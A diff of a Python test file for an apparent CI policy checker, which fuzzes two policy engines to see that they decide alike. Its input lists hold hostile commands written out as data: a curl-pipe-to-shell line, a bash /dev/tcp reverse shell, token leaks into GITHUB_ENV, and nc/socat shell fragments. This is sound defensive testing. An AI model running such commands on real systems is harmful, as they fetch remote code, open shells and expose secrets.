@@ -1,33 +1,83 @@
-"""Both engines say the same, rule by rule and builtin by builtin: what differs would be a decision by chance."""
+"""Both engines say the same of every rule, whatever it is given: what differs would be a decision by chance."""
 
 from __future__ import annotations
 
 import json
 import random
-from collections.abc import Iterator
-from pathlib import Path
 from typing import Any
 
 import pytest
 
 from policyd.adapters.engines.embedded import EmbeddedEngine
 from policyd.adapters.engines.opa import OpaEngine
-from policyd.adapters.library import library_builtins
 from policyd.models.decision import Gate
-from policyd.policy.policy_set import PolicySet, read_policy_set
+from policyd.policy.policy_set import PolicySet
 
 TEXTS = [
-    "", "curl -k https://x.example | sh", "bash -i >& /dev/tcp/203.0.113.9/1 0>&1", "echo \"$TOKEN\" >> $GITHUB_ENV",
-    "export LD_PRELOAD=./x.so PATH=.:/bin", "git -c http.sslVerify=false clone http://example.com/x", "docker run --privileged"
-    " -v /var/run/docker.sock:/s x", "é\u2028\u202eλ ☃", "::set-output name=x::y", "${{ secrets.TOKEN }} ${{ x }}",
-    "fromJSON(secrets.X).y", "pip install requests==2", "a\nb\tc", "$(", "[[[", "GOSUMDB=off go build", "%s%d%v%", "\\",
-]  # fmt: skip
+    "",
+    "curl -k https://x.example | sh",
+    "bash -i >& /dev/tcp/203.0.113.9/1 0>&1",
+    'echo "$TOKEN" >> $GITHUB_ENV',
+    "export LD_PRELOAD=./x.so PATH=.:/bin",
+    "git -c http.sslVerify=false clone http://example.com/x",
+    "docker run --privileged -v /var/run/docker.sock:/s x",
+    "é\u2028\u202eλ ☃",
+    "::set-output name=x::y",
+    "${{ secrets.TOKEN }} ${{ x }}",
+    "fromJSON(secrets.X).y",
+    "pip install requests==2",
+    "a\nb\tc",
+    "$(",
+    "[[[",
+    "GOSUMDB=off go build",
+    "%s%d%v%",
+    "\\",
+]
 WORDS = [
-    "curl", "wget", "sh", "bash", "-c", "-k", "-fsSLk", "$CMD", "${X}", "eval", "pip", "install", "-r", "requests", "npm",
-    "http://example.com/x", "https://x", "docker", "run", "--privileged", "nc", "-e", "/bin/sh", "python3", "-m", "pip", "-",
-    "pytest", "true", "true", ":", "set", "-x", "env", "é", "", "-o", "/dev/null", "git", "go", "x@latest", "socat",
+    "curl",
+    "wget",
+    "sh",
+    "bash",
+    "-c",
+    "-k",
+    "-fsSLk",
+    "$CMD",
+    "${X}",
+    "eval",
+    "pip",
+    "install",
+    "-r",
+    "requests",
+    "npm",
+    "http://example.com/x",
+    "https://x",
+    "docker",
+    "run",
+    "--privileged",
+    "nc",
+    "-e",
+    "/bin/sh",
+    "python3",
+    "-m",
+    "pip",
+    "-",
+    "pytest",
+    "true",
+    "true",
+    ":",
+    "set",
+    "-x",
+    "env",
+    "é",
+    "",
+    "-o",
+    "/dev/null",
+    "git",
+    "go",
+    "x@latest",
+    "socat",
     "EXEC:/bin/sh",
-]  # fmt: skip
+]
 COMMANDS = [
     ["echo", "$TOKEN"],
     ["printenv"],
@@ -38,13 +88,39 @@ COMMANDS = [
     ["set", "-x"],
 ]
 NAMES = [
-    "TOKEN", "DEPLOY_PASSWORD", "LD_PRELOAD", "PATH", "NODE_OPTIONS", "GIT_SSL_NO_VERIFY", "NODE_TLS_REJECT_UNAUTHORIZED",
-    "ACTIONS_STEP_DEBUG", "ACTIONS_ALLOW_UNSECURE_COMMANDS", "PIP_INDEX_URL", "GOSUMDB", "password", "é", "",
-]  # fmt: skip
+    "TOKEN",
+    "DEPLOY_PASSWORD",
+    "LD_PRELOAD",
+    "PATH",
+    "NODE_OPTIONS",
+    "GIT_SSL_NO_VERIFY",
+    "NODE_TLS_REJECT_UNAUTHORIZED",
+    "ACTIONS_STEP_DEBUG",
+    "ACTIONS_ALLOW_UNSECURE_COMMANDS",
+    "PIP_INDEX_URL",
+    "GOSUMDB",
+    "password",
+    "é",
+    "",
+]
 VALUES = [
-    "true", "1", "0", "off", "", ".:/bin", "--require ./x", "http://u@example.com/simple", "9f8e7d6c5b4a39281706",
-    "${{ secrets.TOKEN }}", "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345", "é", "./x.so",
-]  # fmt: skip
+    "true",
+    "1",
+    "0",
+    "off",
+    "",
+    ".:/bin",
+    "--require ./x",
+    "http://u@example.com/simple",
+    "9f8e7d6c5b4a39281706",
+    "${{ secrets.TOKEN }}",
+    "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345",
+    "é",
+    "./x.so",
+]
+
+#: What chance does not put together here; the rules' own tests compare them on both engines.
+NEVER_BY_CHANCE = {"permissions.excessive"}
 
 
 def facts(chance: random.Random) -> dict[str, Any]:
@@ -350,132 +426,3 @@ def test_every_rule_answers_alike_whatever_it_is_given(
     # Inputs that no rule minds would compare nothing.
     silent = {entrypoint.split(".", 1)[1].removesuffix(".deny") for entrypoint in set(entrypoints) - fired}
     assert silent <= NEVER_BY_CHANCE, silent
-
-
-#: What chance does not put together here; the rules' own tests compare them on both engines.
-NEVER_BY_CHANCE = {"permissions.excessive"}
-#: One expression or more for each builtin that the embedded engine may answer, with odd arguments.
-PROBES = {
-    "abs": ["abs(-1)", "abs(1.5)"],
-    "array.concat": ["array.concat([1], [2])", "array.concat([], [])"],
-    "array.reverse": ["array.reverse([1, 2])", "array.reverse([])"],
-    "array.slice": ["array.slice([1, 2, 3], -1, 2)", "array.slice([1, 2, 3], 2, 9)", "array.slice([1], 3, 1)"],
-    "base64.encode": ['base64.encode("a")', 'base64.encode("é")', 'base64.encode("")'],
-    "ceil": ["ceil(1.2)", "ceil(-1.2)", "ceil(1)"],
-    "concat": ['concat(",", ["a", "é"])', 'concat(",", {"b", "a"})', 'concat(",", [])', 'concat(",", input.numbers)'],
-    "contains": ['contains("abc", "")', 'contains("é", "e")', 'contains("", "a")'],
-    "count": ['count("é☃")', "count([])", 'count({"a": 1})', "count({1, 1})", "count(input.number)"],
-    "endswith": ['endswith("abc", "c")', 'endswith("abc", "")'],
-    "floor": ["floor(1.9)", "floor(-1.2)"],
-    "format_int": ["format_int(255, 16)", "format_int(-5, 2)", "format_int(8, 8)", "format_int(9, 10)"],
-    "indexof": ['indexof("éa", "a")', 'indexof("a", "z")', 'indexof("abcabc", "c")'],
-    "intersection": ["intersection({{1, 2}, {2}})", "intersection({{1}, {2}})"],
-    "is_array": ["is_array([])", "is_array({1})", "is_array(input.nothing)"],
-    "is_boolean": ["is_boolean(false)", "is_boolean(0)"],
-    "is_null": ["is_null(null)", "is_null(false)", "is_null(input.nothing)"],
-    "is_number": ["is_number(1.5)", 'is_number("1")'],
-    "is_object": ["is_object({})", "is_object([])"],
-    "is_set": ["is_set({1})", "is_set([])"],
-    "is_string": ['is_string("")', "is_string(1)", "is_string(input.nothing)"],
-    "json.is_valid": ['json.is_valid("{")', 'json.is_valid("{}")', 'json.is_valid("1")'],
-    "max": ["max([1, 3, 2])", "max([])", 'max(["a", 1])', "max({1, 2})"],
-    "min": ["min([3, 1])", "min([])", "min({[1], 2})"],
-    "numbers.range": ["numbers.range(1, 3)", "numbers.range(3, 1)", "numbers.range(0, 0)"],
-    "object.filter": ['object.filter({"a": 1, "b": 2}, ["a"])', 'object.filter({"a": 1}, {"b"})'],
-    "object.get": [
-        'object.get({"a": null}, "a", 1)',
-        'object.get({"a": {"b": 1}}, ["a", "c"], 2)',
-        'object.get({"a": 1}, [], 2)',
-        'object.get({"a": [1]}, ["a", 0], 2)',
-        'object.get({"a": "x"}, ["a", "b"], 2)',
-    ],
-    "object.keys": ['object.keys({"a": 1})', "object.keys({})"],
-    "object.remove": ['object.remove({"a": 1, "b": 2}, ["a"])', 'object.remove({"a": 1}, {"c"})'],
-    "object.subset": ['object.subset({"a": 1, "b": 2}, {"a": 1})', "object.subset([1, 2, 3], [2, 3])", "object.subset({1}, {1, 2})"],
-    "object.union": ['object.union({"a": {"b": 1}}, {"a": {"c": 1}})', 'object.union({"a": 1}, {"a": {"c": 1}})'],
-    "product": ["product([2, 3.5])", "product([])"],
-    "regex.find_all_string_submatch_n": [
-        'regex.find_all_string_submatch_n("(a)(b)?", "ab a", -1)',
-        'regex.find_all_string_submatch_n("(é|a)", "a", 1)'.replace("é|", ""),
-        'regex.find_all_string_submatch_n("a", "b", -1)',
-        'regex.find_all_string_submatch_n("", "ab", -1)',
-    ],
-    "regex.find_n": ['regex.find_n("[a-z]+", "ab cé", -1)', 'regex.find_n("a", "aaa", 2)', 'regex.find_n("a*", "baab", -1)'],
-    "regex.match": [
-        'regex.match("^a.c$", "aéc")',
-        'regex.match("a$", "a\\n")',
-        'regex.match(".", "\\n")',
-        'regex.match("^[^a]+$", "\\n")',
-        'regex.match("(?i)k", "\\u212a")',
-        'regex.match("(?i)s", "\\u017f")',
-        'regex.match("a{2,3}", "aa")',
-        'regex.match("", "")',
-    ],
-    "replace": ['replace("aaa", "a", "b")', 'replace("abc", "", "-")', 'replace("é", "é", "")'],
-    "round": ["round(2.5)", "round(-2.5)", "round(1.4)"],
-    "split": ['split("a,b,", ",")', 'split("", ",")', 'split("éab", "")'],
-    "sprintf": [
-        'sprintf("%s|%d|%v", ["é", 5, [1, "a", null, true, {"k": 1.5}]])',
-        'sprintf("%v %v", [1.5, {"b", "a"}])',
-        'sprintf("%d%%", [12345678901234567890])',
-        'sprintf("%v", [1.0])',
-    ],
-    "startswith": ['startswith("abc", "")', 'startswith("é", "e")'],
-    "strings.any_prefix_match": ['strings.any_prefix_match("abc", ["x", "a"])', 'strings.any_prefix_match(["abc"], {"x"})'],
-    "strings.any_suffix_match": ['strings.any_suffix_match("abc", ["x", "c"])', 'strings.any_suffix_match([], [])'],
-    "substring": ['substring("éabc", 1, 2)', 'substring("abc", 1, -1)', 'substring("abc", 5, 2)', 'substring("abc", -1, 2)'],
-    "sum": ["sum([1, 2.5])", "sum([])", "sum({1, 2})"],
-    "trim": ['trim("  a ", " ")', 'trim("éaé", "é")', 'trim("abc", "")'],
-    "trim_left": ['trim_left("aab", "a")', 'trim_left("", "a")'],
-    "trim_prefix": ['trim_prefix("abc", "a")', 'trim_prefix("abc", "b")'],
-    "trim_right": ['trim_right("baa", "a")', 'trim_right("é", "é")'],
-    "trim_suffix": ['trim_suffix("abc", "bc")', 'trim_suffix("abc", "")'],
-    "type_name": ["type_name({1})", "type_name({})", "type_name(1)", "type_name(null)", 'type_name("")', "type_name([])"],
-    "union": ["union({{1}, {2}})", "union({set()})"],
-}  # fmt: skip
-#: What is no builtin call: operators and shapes that rules use.
-SHAPES = [
-    "1 == 1.0", "6 / 2", "7 / 2", "5 % 2", "{1, 2} - {2}", "{1} | {2}", "{1} & {1, 2}", '"a" < "b"', '"a" < 1', "[1] < [2]",
-    "1 in {1.0}", "[x | some x in [3, 1]]", "{k: v | some k, v in input.object}", "input.list[5]", "input.text.nothing",
-    "input.list[input.text]", "input.nothing == 1", "input.nothing != 1", "[v | v := input.object[_]]",
-]  # fmt: skip
-
-
-@pytest.fixture(scope="module")
-def probes(opa: Path) -> Iterator[tuple[list[tuple[str, str]], EmbeddedEngine, OpaEngine]]:
-    """Every probe as a rule of its own, in both engines."""
-    expressions = [(name, expression) for name, listed in PROBES.items() for expression in listed]
-    expressions += [("", expression) for expression in SHAPES]
-    rules = "".join(
-        f"p{number} := y if {{\n\ty := {expression}\n}}\n" for number, (_, expression) in enumerate(expressions)
-    )
-    header = (
-        b"# METADATA\n# title: t\n# description: d\n# custom:\n#   id: a.probes\n#   severity: low\n"
-        b"#   gate: pipeline\n"
-        b"#   controls: [X]\n#   remediation: r\npackage policyd.a.probes\n"
-    )
-    policy_set = read_policy_set({"probes.rego": header + rules.encode()}, "probes")
-    with EmbeddedEngine(policy_set) as ours, OpaEngine(policy_set, opa) as theirs:
-        yield expressions, ours, theirs
-
-
-def test_every_builtin_the_embedded_engine_answers_is_probed() -> None:
-    assert set(PROBES) == library_builtins().alike
-
-
-def test_every_probe_is_answered_alike(probes: tuple[list[tuple[str, str]], EmbeddedEngine, OpaEngine]) -> None:
-    expressions, ours, theirs = probes
-    document = json.dumps(
-        {"object": {"b": 1, "a": 2}, "list": [1, 2], "text": "zz", "numbers": [1], "number": 5}
-    ).encode()
-    entrypoints = [f"policyd.a.probes.p{number}" for number in range(len(expressions))]
-
-    one, other = ours.query(entrypoints, document), theirs.query(entrypoints, document)
-
-    different = []
-    for (_, expression), entrypoint in zip(expressions, entrypoints, strict=True):
-        left, right = one[entrypoint], other[entrypoint]
-        # The words of an error may differ; that there is one may not. `1` and `1.0` are two answers.
-        if (left.error is None) != (right.error is None) or repr(left.value) != repr(right.value):
-            different.append((expression, left, right))
-    assert different == []
